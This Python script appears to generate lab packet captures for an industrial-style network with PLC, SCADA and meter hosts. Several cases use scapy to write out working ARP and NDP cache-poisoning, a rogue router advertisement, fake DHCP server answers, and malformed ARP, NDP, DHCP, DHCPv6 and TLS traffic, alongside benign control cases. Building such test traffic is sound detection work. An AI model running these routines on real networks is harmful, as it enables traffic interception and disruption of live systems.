"""Malformed and false ARP, NDP, DHCP, DHCPv6 and TLS beside real hosts; and a DHCPv6 lease as it should be."""

import socket
import ssl
import time

from lab import case, debian, main, sh, version, wait_listening
from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet6 import (ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr, ICMPv6NDOptSrcLLAddr, IPv6)
from scapy.layers.l2 import ARP, Ether

KERNEL = f"Linux {sh('uname', '-r').strip().split('-')[0]}"
SCAPY = f"{version('scapy')} (makes the false and the damaged packets)"
PLC, PLC_MAC = "10.10.0.10", "00:30:de:10:00:0a"
SCADA, SCADA_MAC = "10.10.0.100", "00:0c:29:10:00:64"
ODD, ODD_MAC = "10.10.0.66", "00:0c:29:10:00:42"
NOBODY_MAC = "02:00:5e:10:00:99"
EVERYBODY = "ff:ff:ff:ff:ff:ff"


def wire():
    """A socket that sends whole Ethernet frames on eth0."""
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    made.bind(("eth0", 0))
    return made


def hosts(lab):
    for name, address, mac in (("plc", PLC, PLC_MAC), ("scada", SCADA, SCADA_MAC), ("odd", ODD, ODD_MAC)):
        lab.host(name, address, mac=mac)


def ask_again(lab, host, address, turns, pause=0.25):
    """A host that forgets its neighbour and pings it, again and again."""
    for _ in range(turns):
        lab.command(host, "ip", "neigh", "flush", "dev", "eth0")
        lab.command(host, "ping", "-c", "1", "-W", "1", address, check=False)
        time.sleep(pause)


@case("net", KERNEL, SCAPY)
def arp_spoofing(lab):
    """A host tells the SCADA host again and again that the PLC's address is at its own MAC address, while the PLC answers too. Then frames in which it gives a MAC address that is not the
    frame's."""
    hosts(lab)

    def spoof():
        line = wire()
        lie = Ether(src=ODD_MAC, dst=SCADA_MAC) / ARP(op=2, hwsrc=ODD_MAC, psrc=PLC, hwdst=SCADA_MAC, pdst=SCADA)
        for _ in range(12):
            line.send(bytes(lie))
            time.sleep(0.3)
        for last in range(5):
            line.send(bytes(Ether(src=ODD_MAC, dst=EVERYBODY) / ARP(op=1, hwsrc=NOBODY_MAC, psrc=f"10.10.0.{80 + last}", pdst=f"10.10.0.{90 + last}")))

    with lab.capture():
        lab.command("scada", "ping", "-c", "2", "-i", "0.2", PLC)
        lying = lab.start("odd", spoof)
        ask_again(lab, "scada", PLC, 8)
        lab.join(lying)
    return {"true": PLC_MAC, "false": ODD_MAC, "address": PLC, "victim": SCADA, "false_answers": 12, "frames_of_another": 5}


@case("net", KERNEL, SCAPY)
def malformed_arp(lab):
    """A host sends ARP packets that end early, have an operation that is not assigned, or name a group as their sender; two other hosts speak with each other as they should."""
    hosts(lab)

    def attack():
        line = wire()
        good = Ether(src=ODD_MAC, dst=EVERYBODY) / ARP(op=1, hwsrc=ODD_MAC, psrc=ODD, pdst=PLC)
        for turn in range(3):
            cut = bytearray(bytes(good)[:14 + 24])
            line.send(bytes(cut))
            line.send(bytes(Ether(src=ODD_MAC, dst=EVERYBODY) / ARP(op=900 + turn, hwsrc=ODD_MAC, psrc=ODD, pdst=PLC)))
            line.send(bytes(Ether(src=ODD_MAC, dst=EVERYBODY) / ARP(op=1, hwsrc="01:00:5e:00:00:01", psrc=ODD, pdst=PLC)))

    with lab.capture():
        lab.command("scada", "ping", "-c", "3", "-i", "0.2", PLC)
        lab.run("odd", attack)
    return {"sends_malformed": ODD, "cut": 3, "of_unknown_operation": 3, "from_a_group": 3}


@case("net", KERNEL, SCAPY)
def address_given_to_a_new_device(lab):
    """A meter is replaced: its successor takes over the address, announces it, and is asked from then on by the host that asked the old one. One move, nobody lies."""
    lab.host("scada", SCADA, mac=SCADA_MAC)
    old = lab.host("old", "10.10.0.20", mac="a4:cf:12:10:00:20")
    new = lab.host("new", mac="a4:cf:12:10:00:21")

    def announce():
        line = wire()
        for _ in range(2):
            line.send(bytes(Ether(src="a4:cf:12:10:00:21", dst=EVERYBODY) / ARP(op=1, hwsrc="a4:cf:12:10:00:21", psrc="10.10.0.20", pdst="10.10.0.20")))
            time.sleep(0.1)

    with lab.capture():
        ask_again(lab, "scada", "10.10.0.20", 3)
        lab.ip(old, "link", "set", "eth0", "down")
        lab.address(new, "10.10.0.20")
        lab.run(new, announce)
        ask_again(lab, "scada", "10.10.0.20", 3)
    return {"address": "10.10.0.20", "macs": ["a4cf12100020", "a4cf12100021"]}


P6, S6, O6 = "2001:db8:10::10", "2001:db8:10::100", "2001:db8:10::66"


def hosts6(lab):
    for name, address, mac in (("plc", P6, PLC_MAC), ("scada", S6, SCADA_MAC), ("odd", O6, ODD_MAC)):
        lab.host(name, address, mac=mac)


@case("net", KERNEL, SCAPY, ipv6=True)
def ndp_spoofing(lab):
    """A host tells the SCADA host again and again that the PLC's IPv6 address is at its own MAC address, while the PLC answers too; then it claims to be a router, from an address from which no router may
    speak."""
    hosts6(lab)

    def spoof():
        line = wire()
        lie = Ether(src=ODD_MAC, dst=SCADA_MAC) / IPv6(src=P6, dst=S6, hlim=255) / ICMPv6ND_NA(R=0, S=1, O=1, tgt=P6) / ICMPv6NDOptDstLLAddr(lladdr=ODD_MAC)
        for _ in range(12):
            line.send(bytes(lie))
            time.sleep(0.3)
        for _ in range(2):
            line.send(bytes(Ether(src=ODD_MAC, dst="33:33:00:00:00:01") / IPv6(src=O6, dst="ff02::1", hlim=255) / ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptSrcLLAddr(lladdr=ODD_MAC)))

    with lab.capture():
        lab.command("scada", "ping", "-c", "2", "-i", "0.2", P6)
        lying = lab.start("odd", spoof)
        ask_again(lab, "scada", P6, 8)
        lab.join(lying)
    return {"true": PLC_MAC, "false": ODD_MAC, "address": P6, "victim": S6, "false_answers": 12, "router_advertisements": 2}


@case("net", KERNEL, SCAPY, ipv6=True)
def malformed_ndp(lab):
    """A host sends neighbour discovery messages that end early, have a code, an option without length, a multicast target, or a link address though they come from nowhere."""
    hosts6(lab)

    def attack():
        line = wire()
        head = lambda src=O6: Ether(src=ODD_MAC, dst=SCADA_MAC) / IPv6(src=src, dst=S6, hlim=255)
        ask = ICMPv6ND_NS(tgt=S6)
        for turn in range(2):
            for packet in (
                head() / ICMPv6ND_NS(code=4 + turn, tgt=S6),
                head() / ask / ICMPv6NDOptSrcLLAddr(len=0, lladdr=ODD_MAC),
                head() / ICMPv6ND_NS(tgt="ff02::1"),
                head("::") / ask / ICMPv6NDOptSrcLLAddr(lladdr=ODD_MAC),
                head() / ask / ICMPv6NDOptSrcLLAddr(len=3, lladdr=ODD_MAC),
            ):
                line.send(bytes(packet))

    with lab.capture():
        lab.command("scada", "ping", "-c", "2", "-i", "0.2", P6)
        lab.run("odd", attack)
    return {"sends_malformed": O6, "damaged_messages": 10}


def dnsmasq(lab, *options):
    lab.program("server", "dnsmasq", "-k", "-p", "0", "-i", "eth0", "--bind-interfaces", f"--dhcp-leasefile={lab.work}/leases", "--conf-file=/dev/null", f"--pid-file={lab.work}/pid", *options)
    time.sleep(1)


@case("net", debian("dnsmasq-base"), debian("udhcpc"), SCAPY)
def malformed_dhcp(lab):
    """A host sends a DHCP server messages without a type, with options that are cut, a hardware address longer than its field, a server's message as a request, and a name that is no text; it answers
    like a server and does not say which. A meter takes its address as it should."""
    lab.host("server", "10.10.0.1", mac="00:15:5d:10:00:01")
    lab.host("meter-9", mac="a4:cf:12:11:22:35")
    lab.host("odd", ODD, mac=ODD_MAC)
    hook = lab.work / "hook.sh"
    hook.write_text('#!/bin/sh\n[ "$1" = bound ] || exit 0\nip addr add "$ip/24" dev "$interface"\n')
    hook.chmod(0o755)
    chaddr = bytes.fromhex(ODD_MAC.replace(":", ""))

    def attack():
        boot = lambda xid, **more: BOOTP(**{"op": 1, "chaddr": chaddr, "xid": xid, "ciaddr": ODD, **more})
        line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        line.bind((ODD, 68))
        for turn in range(2):
            discover = bytes(boot(turn) / DHCP(options=[("message-type", "discover"), ("hostname", b"odd"), "end"]))
            for message in (
                bytes(boot(turn) / DHCP(options=[("hostname", b"odd"), "end"])),
                discover[:-3],
                bytes(boot(turn, hlen=17) / DHCP(options=[("message-type", "discover"), "end"])),
                bytes(boot(turn) / DHCP(options=[("message-type", "offer"), ("server_id", ODD), "end"])),
                bytes(boot(turn) / DHCP(options=[("message-type", "discover"), ("hostname", b"\xff\xfe\x00"), "end"])),
            ):
                line.sendto(message, ("10.10.0.1", 67))
        answer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        answer.bind((ODD, 67))
        for turn in range(5):
            answer.sendto(bytes(BOOTP(op=2, chaddr=chaddr, xid=90 + turn, yiaddr=ODD) / DHCP(options=[("message-type", "ack"), "end"])), ("10.10.0.1", 68))

    with lab.capture():
        dnsmasq(lab, "--dhcp-range=10.10.0.50,10.10.0.60,1h", "--dhcp-authoritative")
        lab.command("meter-9", "udhcpc", "-i", "eth0", "-n", "-q", "-f", "-s", hook, "-t", "5", "-T", "2")
        lab.run("odd", attack)
    return {"dhcp_server": "10.10.0.1", "sends_malformed": ODD, "damaged_requests": 10, "answers_without_server": 5}


def lease6(lab):
    """A DHCPv6 server, and a client that asks it."""
    dnsmasq(lab, "--dhcp-range=2001:db8:10::100,2001:db8:10::1ff,64,1h")
    leases, script = lab.work / "client.leases", lab.work / "hook.sh"
    script.write_text("#!/bin/sh\nexit 0\n")
    script.chmod(0o755)
    config = lab.work / "dhclient.conf"
    config.write_text('send fqdn.fqdn "meter-9.city.example";\nsend fqdn.encoded on;\nsend fqdn.server-update on;\n')
    return lab.program("meter-9", "dhclient", "-6", "-1", "-d", "-D", "LL", "-cf", config, "-lf", leases, "-pf", lab.work / "client.pid", "-sf", script, "eth0")


@case("net", debian("dnsmasq-base"), debian("isc-dhcp-client"), ipv6=True)
def dhcpv6_lease(lab):
    """A meter takes an IPv6 address by DHCPv6: solicit, advertise, request, reply, with its name."""
    lab.host("server", "2001:db8:10::1", mac="00:15:5d:10:00:01")
    lab.host("meter-9", mac="a4:cf:12:11:22:35")
    time.sleep(2)  # until its link-local address is known to be its own
    with lab.capture():
        client = lease6(lab)
        time.sleep(5)
        lab.stop(client)
    return {"dhcp_server": "2001:db8:10::1", "client_mac": "a4cf12112235", "hostname": "meter-9.city.example"}


@case("net", debian("dnsmasq-base"), SCAPY, ipv6=True)
def malformed_dhcpv6(lab):
    """A host sends a DHCPv6 server messages without an identifier, of a type that is not assigned, cut within an option, with a name that is none, and through more relays than there may be."""
    lab.host("server", "2001:db8:10::1", mac="00:15:5d:10:00:01")
    lab.host("odd", O6, mac=ODD_MAC)
    duid = b"\0\1\0\x0a\0\3\0\1" + bytes.fromhex(ODD_MAC.replace(":", ""))
    solicit = lambda *options: b"\1\0\0\7" + b"".join(options)
    relay = lambda inner: b"\x0c\0" + bytes(16) + b"\xfe\x80" + bytes(13) + b"\1" + b"\0\x09" + len(inner).to_bytes(2, "big") + inner

    def attack():
        line = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        line.bind((O6, 546))
        deep = solicit(duid)
        for _ in range(10):
            deep = relay(deep)
        for _ in range(2):
            for message in (solicit(duid), solicit(b"\0\6\0\2\0\x17"), b"\x63\0\0\7" + duid, solicit(duid, b"\0\6\0\x40\0\x17"), solicit(duid, b"\0\x27\0\5\0\x09odd"), deep):
                line.sendto(message, ("2001:db8:10::1", 547))
                time.sleep(0.02)

    with lab.capture():
        dnsmasq(lab, "--dhcp-range=2001:db8:10::100,2001:db8:10::1ff,64,1h")
        lab.run("odd", attack)
    return {"dhcp_server": "2001:db8:10::1", "sends_malformed": O6, "damaged_messages": 10}


def client_hello():
    """What Python's TLS client says first."""
    out = ssl.MemoryBIO()
    context = ssl.create_default_context()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="pump.example").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


@case("net", "OpenSSL (Debian 12)", "the damage is done by the script")
def malformed_tls(lab):
    """A host sends a TLS server a ClientHello whose inner lengths do not fit, and alerts that are none, eight times; another host connects as it should."""
    hosts(lab)
    key, certificate = lab.work / "key.pem", lab.work / "cert.pem"
    sh("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", certificate, "-days", "30", "-subj", "/CN=pump.example")
    lab.program("plc", "openssl", "s_server", "-accept", "8883", "-key", key, "-cert", certificate, "-quiet")
    wait_listening(lab, "plc", 8883)

    def attack():
        hello = client_hello()
        for turn in range(8):
            damaged = bytearray(hello)
            if turn % 2:
                damaged[5 + 4 + 34] = 0xE0 + turn
            else:
                damaged += b"\x15\x03\x03\x00\x05alert"
            with socket.create_connection((PLC, 8883), 3) as connection:
                connection.settimeout(0.1)
                try:
                    connection.sendall(damaged)
                    connection.recv(4096)
                except (TimeoutError, ConnectionError):
                    pass

    with lab.capture():
        lab.command("scada", "sh", "-c", f"printf 'hello' | openssl s_client -connect {PLC}:8883 -quiet", check=False)
        lab.run("odd", attack)
    return {"server": PLC, "port": 8883, "sends_malformed": ODD, "damaged_connections": 8}


if __name__ == "__main__":
    main(__file__)
